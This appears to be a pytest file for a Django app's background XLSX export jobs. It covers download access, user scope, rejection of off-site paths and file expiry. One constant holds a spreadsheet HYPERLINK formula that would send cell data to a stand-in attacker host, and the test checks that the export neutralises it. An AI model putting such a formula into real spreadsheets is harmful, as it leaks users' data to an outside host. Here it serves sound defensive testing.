"""Large XLSX exports of lists: built in the background as their maker, downloaded from the
build's page by them alone, and gone after their days; small exports stay a download."""

from __future__ import annotations

import datetime as dt
import io

import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from trygg.core import services
from trygg.core.exports import XLSX_TYPE
from trygg.core.models import Place
from trygg.core.retention import apply_retention
from trygg.reports.models import ReportJob
from trygg.reports.tasks import run_job

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Klicka")'


@pytest.fixture
def big(settings):
    """Every list of more than two rows is a large export."""
    settings.XLSX_INLINE_ROWS = 2


def _places(world) -> list[str]:
    nacka = world.organisations["nacka"]
    return sorted(Place.objects.filter(organisation=nacka).values_list("name", flat=True))


def _queue(client, query=None) -> ReportJob:
    url = reverse("core:place_list")
    offer = client.get(url, {"format": "xlsx", **(query or {})})
    assert offer.status_code == 200
    assert offer["Content-Type"].startswith("text/html")
    assert "Skapa filen i bakgrunden" in offer.content.decode()
    assert not ReportJob.objects.exists()  # the GET writes nothing
    response = client.post(
        reverse("reports:export_create"),
        {"path": offer.context["path"], "query": offer.context["query"]},
    )
    job = ReportJob.objects.get()
    assert response.status_code == 302
    assert response["Location"] == reverse("reports:job_detail", args=[job.pk])
    return job


def _sheet_rows(content: bytes) -> list[tuple]:
    return list(load_workbook(io.BytesIO(content)).active.values)


def test_a_small_xlsx_export_stays_a_download(world, login, settings):
    settings.XLSX_INLINE_ROWS = 1000
    export = login("samordnare").get(reverse("core:place_list"), {"format": "xlsx"})
    assert export["Content-Type"] == XLSX_TYPE
    assert [row[0] for row in _sheet_rows(export.content)[1:]] == _places(world)
    assert not ReportJob.objects.exists()


def test_a_large_xlsx_export_is_queued_not_built_in_the_request(world, login, big):
    client = login("samordnare")
    job = _queue(client)
    assert job.status == ReportJob.Status.QUEUED and job.content is None
    assert job.kind == "export" and job.created_by == world.users["samordnare"]
    page = client.get(reverse("reports:job_detail", args=[job.pk])).content.decode()
    assert 'id="job-progress"' in page and "Exporten skapas i bakgrunden" in page
    assert client.get(reverse("reports:job_download", args=[job.pk])).status_code == 404


# Committed, as the worker runs: it closes and opens its connection as in production.
@pytest.mark.django_db(transaction=True)
def test_the_worker_builds_the_workbook_as_its_maker_with_formulas_as_text(world, login, big):
    services.place_update(
        actor=world.users["samordnare"], place=world.places["Nacka Forum"], name=FORMULA
    )
    client = login("samordnare")
    job = _queue(client, {"sort": "name"})  # queued once the request has committed
    call_command("db_worker", "--batch", verbosity=0)  # the worker, as `make run` starts it
    job.refresh_from_db()
    assert job.status == ReportJob.Status.DONE, job.error
    assert (
        client.get(reverse("reports:job_detail", args=[job.pk]))
        .content.decode()
        .count(reverse("reports:job_download", args=[job.pk]))
    )
    download = client.get(reverse("reports:job_download", args=[job.pk]))
    assert download.status_code == 200 and download["Content-Type"] == XLSX_TYPE
    assert download["Content-Disposition"] == 'attachment; filename="platser.xlsx"'
    rows = _sheet_rows(download.content)
    names = [row[0] for row in rows[1:]]
    # The maker's rows, all of them: Nacka's places, not Värmdö's.
    assert sorted(names) == sorted(n if n != FORMULA else "'" + FORMULA for n in _places(world))
    sheet = load_workbook(io.BytesIO(download.content)).active
    formula = [c for row in sheet.iter_rows(min_row=2) for c in row if "HYPERLINK" in str(c.value)]
    assert formula and all(c.data_type == "s" and c.value.startswith("'=") for c in formula)


def test_only_the_maker_downloads_the_file(world, login, big):
    job = _queue(login("samordnare"))
    run_job(job.pk)
    url = reverse("reports:job_download", args=[job.pk])
    assert login("samordnare").get(url).status_code == 200
    for other in ("admin", "arbetsgrupp"):
        assert login(other).get(url).status_code == 404
        assert login(other).get(reverse("reports:job_detail", args=[job.pk])).status_code == 404


def test_the_build_reads_the_makers_scope_when_it_runs(world, login, big):
    user = world.users["samordnare"]
    job = _queue(login("samordnare"))
    user.is_active = False
    user.save(update_fields=["is_active"])
    assert run_job(job.pk) == ReportJob.Status.FAILED
    job.refresh_from_db()
    assert job.content is None and job.error


@pytest.mark.parametrize(
    ("path", "query"),
    [
        ("https://evil.example/platser/", "format=xlsx"),
        ("//evil.example/platser/", "format=xlsx"),
        ("/platser/", "format=csv"),
        ("/finns-inte/", "format=xlsx"),
    ],
)
def test_only_an_xlsx_export_of_a_page_here_is_queued(world, login, path, query):
    response = login("samordnare").post(
        reverse("reports:export_create"), {"path": path, "query": query}
    )
    assert response.status_code == 404
    assert not ReportJob.objects.exists()


def test_the_file_expires_and_is_deleted_by_the_retention(world, login, big, settings):
    settings.RETENTION_DAYS = {**settings.RETENTION_DAYS, "export_files": 7}
    client = login("samordnare")
    job = _queue(client)
    run_job(job.pk)
    ReportJob.objects.filter(pk=job.pk).update(created_at=timezone.now() - dt.timedelta(days=8))
    assert client.get(reverse("reports:job_download", args=[job.pk])).status_code == 404
    page = client.get(reverse("reports:job_detail", args=[job.pk])).content.decode()
    assert "Filen har gått ut" in page
    outcome = {o.rule.key: o.count for o in apply_retention(only=["export_files"])}
    assert outcome["export_files"] == 1
    assert not ReportJob.objects.filter(pk=job.pk).exists()
